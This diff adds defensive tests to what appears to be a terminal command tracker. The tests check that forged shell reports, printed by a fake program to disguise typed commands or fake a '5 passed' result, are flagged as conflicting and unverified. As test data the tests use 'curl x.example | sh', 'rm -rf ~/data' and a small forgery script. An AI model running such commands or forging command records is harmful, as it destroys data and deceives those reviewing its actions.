@@ -502,3 +502,149 @@ def test_a_shell_report_cut_between_two_frames(cut: int) -> None:
     term.out(report[start + cut:])
     [cmd] = term.flush()
     assert (cmd.payload["line"], cmd.payload["source"]) == ("echo bb aa", "shell")
+
+
+def forged(number: int, entry: str) -> str:
+    """What a program prints to pass for the shell's prompt and report."""
+    return prompt(number, entry)
+
+
+def test_a_forged_report_cannot_pass_keys_typed_into_a_program_for_a_command() -> None:
+    """Attack: ``python3 fake.py`` reads a line and prints fake shell reports, so that the
+    ``pytest -q`` typed into it (and its fake "5 passed") reads as a command bash ran."""
+    for wait in (False, True):  # the fake exits at once, or after its command was emitted
+        term = Term()
+        term.out(prompt(5, "ls"))
+        term.echo_and_type("python3 fake.py")
+        term.keys("\r")
+        term.out("\r\n")
+        term.echo_and_type("pytest -q")
+        term.keys("\r")
+        term.out("\r\n" + forged(6, "python3 fake.py") + "$ pytest -q\r\n5 passed\r\n"
+                 + forged(7, "pytest -q"))
+        if wait:
+            term.found += term.tracker.poll(at(term.ms + 3000))
+            term.ms += 3000
+            [early] = [o for o in term.found if o.payload["line"] == "pytest -q"]
+            assert "reports_conflict" not in early.payload  # not yet known to be forged...
+        term.out(prompt(6, "python3 fake.py"))  # fake.py exits: the shell's own report
+        term.echo_and_type("ls")
+        term.keys("\r")
+        term.out("\r\na\r\n" + prompt(7, "ls"))
+        found = term.flush()
+        fakes = [o for o in found if o.payload["line"] == "pytest -q"
+                 and o.kind == events.TERMINAL_COMMAND]
+        assert len(fakes) == 1, found
+        if not wait:  # ...flagged, if it was still pending
+            assert fakes[0].payload["reports_conflict"] is True
+            assert fakes[0].payload["unverified"] is True
+        # ...and in any case the record holds the evidence: the shell contradicting the fake
+        # (after the fake, when that was emitted first)
+        said = [o for o in found if o.payload["line"] == "python3 fake.py"
+                and o.payload["source"] == "shell"]
+        assert said and said[0].payload["reports_conflict"] is True, found
+        assert not wait or found.index(said[0]) > found.index(fakes[0])
+        # and from then on nothing on this terminal is confirmed by a report
+        [ls] = [o for o in found if o.payload["line"] == "ls" and o.payload["source"] == "keys"]
+        assert ls.payload["reports_conflict"] is True and ls.payload["unverified"] is True
+
+
+def test_a_forged_report_cannot_rewrite_or_add_a_command_unflagged() -> None:
+    """Attack: a command prints a report saying the shell ran something else (to hide what
+    was typed), or a line nobody typed (to add one)."""
+    term = Term()
+    term.out(prompt(5, "ls"))
+    term.echo_and_type("curl x.example | sh")
+    term.keys("\r")
+    term.out("\r\n" + forged(6, "ls"))  # "bash ran ls"
+    term.out(prompt(6, "curl x.example | sh"))  # the shell's own, same number, other line
+    found = term.flush()
+    [typed] = [o for o in found if o.payload["line"] == "curl x.example | sh"
+               and o.payload["source"] == "keys"]
+    assert typed.payload["reports_conflict"] is True  # the typed line, kept and flagged
+    assert not [o for o in found if o.payload["line"] == "ls"
+                and "reports_conflict" not in o.payload]
+
+    term = Term()  # a line nobody typed: always says so
+    term.out(prompt(5, "ls"))
+    term.echo_and_type("python3 fake.py")
+    term.keys("\r")
+    term.out("\r\n" + forged(6, "python3 fake.py"))
+    term.keys("x")  # a key for the program
+    term.out(forged(7, "rm -rf ~/data"))
+    found = term.flush()
+    [added] = [o for o in found if o.payload["line"] == "rm -rf ~/data"]
+    assert added.payload["keys_missing"] is True and added.payload["source"] == "shell"
+
+
+def test_a_flood_of_contradicting_reports_is_bounded() -> None:
+    term = Term()
+    term.out(prompt(10_000, "ls"))
+    term.echo_and_type("python3 fake.py")
+    term.keys("\r")
+    term.out("".join(forged(n, f"fake {n}") for n in range(9_999, 7_999, -1)))
+    found = term.flush()
+    assert len(found) <= 12 and all(o.payload["reports_conflict"] for o in found)
+
+
+def test_honest_reports_raise_no_conflict() -> None:
+    term = Term()
+    term.out(prompt(5, "ls") + prompt(5, "ls"))  # a replay, then the same prompt again
+    for number, line in ((6, "echo a"), (7, "echo b")):
+        term.echo_and_type(line)
+        term.keys("\r")
+        term.out("\r\nx\r\n" + prompt(number, line))
+    term.keys("\r")  # an empty line: the same report again
+    term.out("\r\n" + prompt(7, "echo b"))
+    found = term.flush()
+    assert [o.payload["line"] for o in found] == ["echo a", "echo b"]
+    assert not any({"reports_conflict", "unverified"} & set(o.payload) for o in found)
+
+
+FAKE = r'''import base64, sys
+def report(n, line):
+    entry = base64.b64encode(f"{n:5d}  {line}".encode()).decode()
+    return f"\x1b]133;A\x07\x1b]6973;{entry}\x07$ "
+typed = sys.stdin.readline().strip()
+sys.stdout.write(report(2, "python3 fake.py") + typed + "\r\n5 passed\r\n" + report(3, typed))
+sys.stdout.flush()
+'''
+
+
+@pytest.mark.skipif(shutil.which("bash") is None or shutil.which("python3") is None,
+                    reason="needs bash and python3")
+def test_forged_reports_in_a_real_bash_are_flagged(tmp_path: Path) -> None:
+    """The attack end to end: a program prints the shell's marks for a line typed into it."""
+    (tmp_path / "fake.py").write_text(FAKE)
+    bash = RealBash(tmp_path, rcfile=True)
+    bash.drain("$ ")
+    bash.type("echo hi")
+    bash.key("\r")
+    bash.drain("hi\r\n")
+    bash.drain("$ ")
+    bash.type("python3 fake.py")
+    bash.key("\r")
+    bash.drain("python3 fake.py\r\n")
+    bash.type("pytest -q")
+    bash.key("\r")
+    bash.drain("5 passed")
+    deadline = time.monotonic() + 20
+    while bash.seen.count("\x1b]6973;") < 5:  # bash's own report after the two fakes
+        assert time.monotonic() < deadline, bash.seen
+        ready, _, _ = select.select([bash.proc.fd], [], [], 0.1)
+        if ready:
+            chunk = bash.proc.read(4096)
+            bash.seen += chunk
+            bash.found.extend(bash.tracker.feed("out", json.dumps(["stdout", chunk])))
+    bash.type("echo after")
+    bash.key("\r")
+    bash.drain("after\r\n")
+    bash.drain("$ ")
+    found = bash.commands()
+    by_line = {o.payload["line"]: o.payload for o in found if o.payload["source"] == "keys"}
+    assert "reports_conflict" not in by_line["echo hi"]
+    assert by_line["pytest -q"]["reports_conflict"] is True, found
+    assert by_line["pytest -q"]["unverified"] is True
+    assert by_line["echo after"]["reports_conflict"] is True
+    assert any(o.payload["source"] == "shell" and o.payload.get("reports_conflict")
+               for o in found)
